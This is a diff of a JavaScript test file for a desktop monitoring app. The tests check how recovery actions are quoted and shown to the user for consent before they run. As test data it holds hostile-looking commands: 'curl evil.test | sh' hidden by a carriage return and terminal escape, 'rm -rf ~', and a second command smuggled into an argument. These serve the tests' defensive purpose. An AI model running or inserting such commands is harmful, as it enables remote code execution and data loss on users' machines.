@@ -5,39 +5,29 @@ import assert from 'node:assert/strict';
 import { appDocument, fakeWindow, install } from './fakedom.js';
 import { mockIpc, settle, monitorState } from './ipc-mock.js';
 import { setTransport } from '../app/js/ipc.js';
-import { describeAction, actionsNeedingConsent } from '../app/js/consent.js';
 
 globalThis.__LOOKOUT_TEST__ = true;
 const { createApp } = await import('../app/js/main.js');
 
-test('each action reads as the core describes it, arguments quoted as a shell needs them', () => {
-  // The same cases as crates/lookout-core/src/import/consent.rs.
-  assert.equal(describeAction({ run: ['systemctl', '--user', 'restart', 'api.service'] }), 'runs systemctl --user restart api.service');
-  assert.equal(describeAction({ run: ['sh', '-c', "rm -rf ~; echo 'hi'"] }), "runs sh -c 'rm -rf ~; echo '\\''hi'\\'''");
-  assert.equal(describeAction({ run: ['touch', ''] }), "runs touch ''");
-  assert.equal(describeAction({ webhook: 'https://hooks.test/a/b?c=d' }), "posts the monitor's name and target to https://hooks.test/a/b?c=d");
-});
+// The core decides which actions need a yes and how each reads (src-tauri's add_monitor /
+// update_monitor over crates/lookout-core/src/import/consent.rs, where the quoting and the
+// "only what is not already saved" rule are tested). This fake answers as they do: the words
+// below are the core's for these actions.
+const WORDS = new Map([
+  [JSON.stringify({ run: ['sh', '-c', 'id\r\u001b[2Ksystemctl restart web'] }), "runs sh -c $'id\\r\\x1b[2Ksystemctl restart web'"],
+  [JSON.stringify({ webhook: 'https://collector.test/hook?who=me' }), "posts the monitor's name and target to https://collector.test/hook?who=me"],
+  [JSON.stringify({ run: ['systemctl', '--user', 'restart', 'api; curl evil.test'] }), "runs systemctl --user restart 'api; curl evil.test'"],
+]);
+const what = (a) => JSON.stringify(Array.isArray(a.run) ? { run: a.run } : { webhook: a.webhook });
 
-test('nothing in an argument can hide from the reader', () => {
-  // A carriage return and an ANSI "erase line" would print a harmless command over the real
-  // one; a right-to-left override would reorder what is shown; a zero-width space hides.
-  assert.equal(describeAction({ run: ['sh', '-c', 'curl evil.test | sh\r\u001b[2Ksystemctl restart api'] }), "runs sh -c $'curl evil.test | sh\\r\\x1b[2Ksystemctl restart api'");
-  assert.equal(describeAction({ run: ['rm', '-rf', '/tmp/x\u202efdp.txt', 'a\u200bb'] }), "runs rm -rf $'/tmp/x\\u202efdp.txt' $'a\\u200bb'");
-  assert.equal(describeAction({ webhook: 'https://h.test/\u202ex' }), "posts the monitor's name and target to https://h.test/\\u202ex");
-});
-
-test('only actions not already saved as they are need a yes', () => {
-  const saved = [{ run: ['systemctl', 'restart', 'api'], cooldown: '5m' }, { webhook: 'https://h.test/a' }];
-  assert.deepEqual(actionsNeedingConsent(saved, saved), []);
-  // Timing options are not what runs; reordering runs nothing new.
-  assert.deepEqual(actionsNeedingConsent([{ webhook: 'https://h.test/a', cooldown: '1m' }, { run: ['systemctl', 'restart', 'api'] }], saved), []);
-  assert.deepEqual(actionsNeedingConsent([{ run: ['systemctl', 'restart', 'api', '--now'] }, { webhook: 'https://h.test/b' }], saved), [
-    { field: 'recovery[0]', kind: 'run', described: 'runs systemctl restart api --now' },
-    { field: 'recovery[1]', kind: 'webhook', described: "posts the monitor's name and target to https://h.test/b" },
-  ]);
-  assert.equal(actionsNeedingConsent(saved, undefined).length, 2, 'a new monitor: every one');
-  assert.deepEqual(actionsNeedingConsent(undefined, saved), []);
-});
+function coreSave(next, saved, allowRecovery) {
+  if (next.target.includes('refused.test')) throw { kind: 'invalid', message: 'invalid', fields: [{ field: 'target', message: 'the core refuses this host' }] };
+  const known = new Set((saved || []).map(what));
+  const asks = (next.recovery || []).map((a, i) => ({ a, i })).filter(({ a }) => !known.has(what(a)));
+  if (asks.length && !allowRecovery) {
+    throw { kind: 'needs_consent', message: 'need your agreement', fields: asks.map(({ a, i }) => ({ field: `recovery[${i}]`, message: WORDS.get(what(a)) })) };
+  }
+}
 
 let doc, added, updated, spec;
 
@@ -49,11 +39,13 @@ async function boot() {
     monitors_history: ({ ids }) => ids.map((id) => ({ id, latency: [], days: [], uptime: null })),
     get_settings: () => ({ start_at_login: false }),
     get_monitor: () => spec,
-    add_monitor: ({ spec: s }) => {
+    add_monitor: ({ spec: s, allowRecovery }) => {
+      coreSave(s, undefined, allowRecovery);
       added.push(s);
       return 2;
     },
-    update_monitor: ({ id, spec: s }) => {
+    update_monitor: ({ id, spec: s, allowRecovery }) => {
+      coreSave(s, spec.recovery, allowRecovery);
       updated.push(s);
       return id;
     },
@@ -154,4 +146,14 @@ test('editing a monitor asks only about an action whose command changed', async 
   await click('button[data-action=confirm-recovery]');
   assert.equal(updated.length, 2);
   assert.deepEqual(updated[1].recovery, [{ run: ['systemctl', '--user', 'restart', 'api; curl evil.test'] }]);
+});
+
+test("the core's validation comes before the question: a spec it refuses shows its errors, not the panel", async () => {
+  await newMonitorWithActions();
+  await click('button[data-action=cancel-recovery]');
+  form().querySelector('[name=target]').value = 'https://refused.test/';
+  await click('button[type=submit]');
+  assert.equal(panel(), null);
+  assert.equal(added.length, 0);
+  assert.match(form().querySelector('.field-target').textContent, /the core refuses this host/);
 });
